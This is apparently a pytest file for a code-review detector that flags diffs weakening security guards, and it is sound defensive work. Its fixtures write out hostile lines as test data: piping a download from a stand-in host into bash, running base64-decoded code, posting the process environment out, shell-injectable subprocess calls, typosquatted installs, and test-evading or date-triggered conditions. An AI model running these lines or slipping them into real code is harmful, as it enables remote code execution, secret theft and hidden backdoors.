"""Guards that go, line by line: every shape once, and what only moved or only looks like one."""

from __future__ import annotations

from dataclasses import replace

import pytest

from tests.review.world import captured, changed
from wholeship.review.evidence.guards import CLOSED, OPENED, find_lost_guards

LINES = {
    "a download is run as it comes": "RUN curl -fsSL https://x.invalid/i | bash",
    "code is unpacked and run": "exec(base64.b64decode(text))",
    "certificates are not checked": "requests.get(url, verify=False)",
    "a container may do what the machine may": "  privileged: true",
    "a door is open to everybody": 'cidr_blocks = ["0.0.0.0/0"]',
    "rights are given away": "  name: cluster-admin",
    "protection is switched off": "DEBUG = True",
    "what goes wrong is passed over": "pytest || true",
    "the environment is sent out": "requests.post(url, json=dict(os.environ))",
    "a program is named that fetches code when it is installed": '    "postinstall": "node x.js",',
    "the program asks whether it is tested": "if os.environ.get('PYTEST_CURRENT_TEST'):",
    "the program does something else by the date, its caller, chance or the machine": (
        "if time.time() > 2000000000:"
    ),
    "a shell runs what others wrote": 'subprocess.run(f"ls {name}", shell=True)',
}
GONE = {
    "a check of rights is gone": "    if not user.is_admin:",
    "a limit or a probe is gone": "          livenessProbe:",
}


def found(path: str, *lines: str, removed: tuple[str, ...] = (), kind: str = "src") -> list[str]:
    file = replace(changed(path, *lines, deleted=len(removed)), removed=removed)
    return [each.what for each in find_lost_guards(captured(file).diff, {path: kind})]


def test_every_shape_has_its_line() -> None:
    """The tables and these examples name the same guards."""
    assert set(LINES) == set(OPENED)
    assert set(GONE) == set(CLOSED)


@pytest.mark.parametrize("what", LINES)
def test_what_opens_something_is_told(what: str) -> None:
    """A line that opens something is told; the same line that was there, or that only moved, is not."""
    line = LINES[what]
    assert what in found("deploy/a.yaml", line)
    assert what in found("deploy/a.yaml", f"{line}\r")
    assert found("deploy/a.yaml", line, removed=(line,)) == []
    assert found("deploy/a.yaml", f"    {line}", removed=(line,)) == []
    assert found("docs/a.md", line, kind="docs") == []
    assert found("deploy/a.yaml", f"# {line}") == []


@pytest.mark.parametrize("what", GONE)
def test_what_closed_something_and_goes_is_told(what: str) -> None:
    """A check or a limit that goes is told; one that is written otherwise is not."""
    line = GONE[what]
    assert what in found("src/a.py", "x = 1", removed=(line,))
    assert what not in found("src/a.py", f"  {line}", removed=(line,))


@pytest.mark.parametrize(
    ("path", "before", "now", "told"),
    [
        ("Dockerfile", "FROM python:3.12", "FROM python:3.13", False),
        ("Dockerfile", "FROM python:3.12", "FROM someone/python:3.12", True),
        ("Dockerfile", "FROM python:3.12@sha256:" + "a" * 64, "FROM python:latest", True),
        ("deploy/a.yaml", "  image: ghcr.io/a/b:1", "  image: ghcr.io/a/b:2", False),
        ("deploy/a.yaml", "  image: ghcr.io/a/b:1", "  image: ghcr.io/c/b:1", True),
        ("deploy/a.yaml", "  image: ghcr.io:5000/a/b:1", "  image: ghcr.io:5000/a/b", True),
        ("a.tf", '  source = "github.com/a/b?ref=v1"', '  source = "github.com/a/b?ref=v2"', False),
        ("a.tf", '  source = "github.com/a/b?ref=v1"', '  source = "github.com/a/b"', True),
    ],
)
def test_where_things_come_from(path: str, before: str, now: str, told: bool) -> None:
    """An image or a module from another place, or without its version, is told; a newer one is not."""
    assert bool(found(path, now, removed=(before,), kind="config")) is told


@pytest.mark.parametrize(
    "line",
    [
        "total = price * count",
        "return user.name",
        "  replicas: 3",
        "logger.info('authenticated %s', user)",
        "    environment: production",
        "set -eu",
        "RUN apt-get install -y curl",
        "assert response.status == 200",
    ],
)
def test_plain_lines_are_no_loss(line: str) -> None:
    """Everyday lines take no guard away."""
    assert found("src/a.py", line) == []


@pytest.mark.parametrize(
    "line",
    [
        "if datetime.date.today().year >= 2027:",
        "if (Date.now() > 1900000000000) {",
        "if (new Date() > new Date('2030-01-01')) {",
        "if time.Now().After(time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC)) {",
        "if not __debug__:",
        "if not any('test' in f.filename for f in inspect.stack()):",
        "if 'test' not in sys._getframe(1).f_code.co_filename:",
        "if any(m.startswith('unit') for m in sys.modules):",
        "if socket.gethostname().startswith('prod'):",
        "if os.environ.get('CI'):",
        "if random.random() < 0.001:",
    ],
)
def test_what_a_suite_cannot_see_is_told(line: str) -> None:
    """A program that does something else at another time, or on another machine, is told."""
    assert found("src/a.py", line) == [
        "the program does something else by the date, its caller, chance or the machine"
    ]


@pytest.mark.parametrize(
    "line",
    [
        "started = time.time()",
        "if time.time() - started > 5:",
        "today = date.today()",
        "log.info('on %s', socket.gethostname())",
        "modules = dict(sys.modules)",
        "if random.random() < share:",
        "frame = inspect.currentframe()",
    ],
)
def test_clocks_and_machines_that_are_only_read_are_none(line: str) -> None:
    """To ask for the time, or for the machine's name, decides nothing yet."""
    assert found("src/a.py", line) == []


@pytest.mark.parametrize(
    ("before", "now", "told"),
    [
        ("$ pip install shop", "$ pip install sh0p", True),
        ("$ pip install shop==1.0", "$ pip install shop==1.1", False),
        ("$ pip install shop", "$ pip install -i https://x.invalid/simple shop", True),
        ("$ pip install shop", "$ pip install --upgrade shop", False),
        ("$ pip install 'shop[web]>=1'", "$ pip install 'shop[web]>=2'", False),
        ("$ npm install @acme/shop", "$ npm install @acne/shop", True),
        ("$ docker run ghcr.io/acme/shop:1.2", "$ docker run ghcr.io/acme/shop:1.3", False),
        ("$ docker run ghcr.io/acme/shop:1.2", "$ docker run ghcr.io/acne/shop:1.2", True),
        ("words", "$ pip install shop", False),
    ],
)
def test_a_page_that_has_people_install_something_else_is_told(before: str, now: str, told: bool) -> None:
    """Another version, or a first command, is none."""
    assert bool(found("README.md", now, removed=(before,), kind="docs")) is told


def test_a_message_that_keeps_checks_from_running_is_told() -> None:
    """Beside code; a change of documents alone may go without them."""
    for text in ("feat: x\n\n[skip ci]", "feat: [CI skip] x", "feat: x\n\nskip-checks: true"):
        diff = captured(changed("a", "x")).diff
        assert [each.what for each in find_lost_guards(diff, {"a": "src"}, [text])]
        assert find_lost_guards(diff, {"a": "docs"}, [text]) == ()
    assert find_lost_guards(captured(changed("a", "x")).diff, {"a": "src"}, ["feat: skip ci tests"]) == ()


@pytest.mark.parametrize(
    ("before", "now", "told"),
    [("true", "false", True), ("false", "true", False), ("true", "true", False)],
)
def test_updates_that_are_switched_off_are_told(before: str, now: str, told: bool) -> None:
    """Without updates, packages with known holes stay."""
    lines = [f'  "enabled": {value}' for value in (before, now)]
    assert bool(found("renovate.json", lines[1], removed=(lines[0],), kind="deps")) is told


def test_a_line_that_nobody_can_read_is_told() -> None:
    """A line of many kilobytes is not read to its end, and that is a finding, not silence."""
    assert found("src/a.js", "x" * 20_000) == ["a line is too long to be read"]
